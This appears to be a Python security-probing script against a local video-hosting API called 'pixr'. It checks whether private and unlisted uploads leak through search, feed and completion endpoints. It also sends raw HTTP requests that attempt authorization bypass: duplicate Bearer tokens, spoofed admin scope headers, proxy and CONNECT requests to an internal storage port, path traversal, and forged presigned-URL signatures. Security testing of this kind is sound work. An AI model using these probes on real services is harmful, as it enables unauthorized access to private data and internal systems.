from h import *
from s3x import *
import glob,time
v=sorted(glob.glob('/tmp/stranger/vids/*.mp4'))
put('bruno-win/manifest.csv',b"file,title,creator,visibility\nw1.mp4,Zqxwindow one,bruno,private\nw2.mp4,Zqxwindow two,bruno,unlisted\n")
put('bruno-win/w1.mp4',open(v[0],'rb').read()+b'\0'*900); put('bruno-win/w2.mp4',open(v[1],'rb').read()+b'\0'*901)
x=r('POST','/v1/jobs','bruno-ing',json={'source':'s3://pixr/bruno-win/'}); j=x.json()['id']; t=time.time(); n=0; leaks=set()
while time.time()-t<150:
    for p in ('/v1/videos?limit=100','/v1/search?q=zqxwindow&intent=typing&relevance_min_ppm=0&limit=100','/v1/feed?limit=50','/v1/completions?q=zqxw'):
        y=r('GET',p).text.lower(); n+=1
        if 'zqxwindow' in y.replace('"query":"zqxwindow"',''): leaks.add(p)
    if n%40==0 and r('GET','/v1/jobs/'+j,'bruno-ing').json()['status'] not in('queued','running'): break
    time.sleep(.1)
d=r('GET','/v1/jobs/'+j,'bruno-ing').json(); print(d['status'],d['remarks'],'polls',n,'leaks',leaks)
import socket
def raw(b):
    s=socket.create_connection(('127.0.0.1',8001)); s.settimeout(5); s.sendall(b); o=b''
    try:
        while True:
            k=s.recv(65536)
            if not k: break
            o+=k
    except Exception: pass
    s.close(); return o
for a,b in (('search1','admin'),('admin','search1')):
    o=raw(f"GET /v1/keys?limit=1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {K[a]}\r\nAuthorization: Bearer {K[b]}\r\nConnection: close\r\n\r\n".encode()); print(a,b,o.split(b'\r\n')[0],o[-160:])
for q in (b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX-Pixr-Scopes: admin\r\nX-Pixr-Key: 1\r\nX-Principal: 1\r\nConnection: close\r\n\r\n",b"GET http://127.0.0.1:9001/pixr/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",b"CONNECT 127.0.0.1:9001 HTTP/1.1\r\nHost: x\r\n\r\n",b"TRACE / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",b"GET /pixr/ledger/heads/?X-Amz-Signature=x&X-Amz-Algorithm=AWS4-HMAC-SHA256 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",b"GET /minio/?X-Amz-Signature=x HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n",b"GET /pixr/../minio/?X-Amz-Signature=x HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n",b"GET /pixr/x?X-Amz-Signature=x HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n"):
    o=raw(q); print(q[:70],o.split(b'\r\n')[0],o[-200:].replace(b'\r\n',b' '))
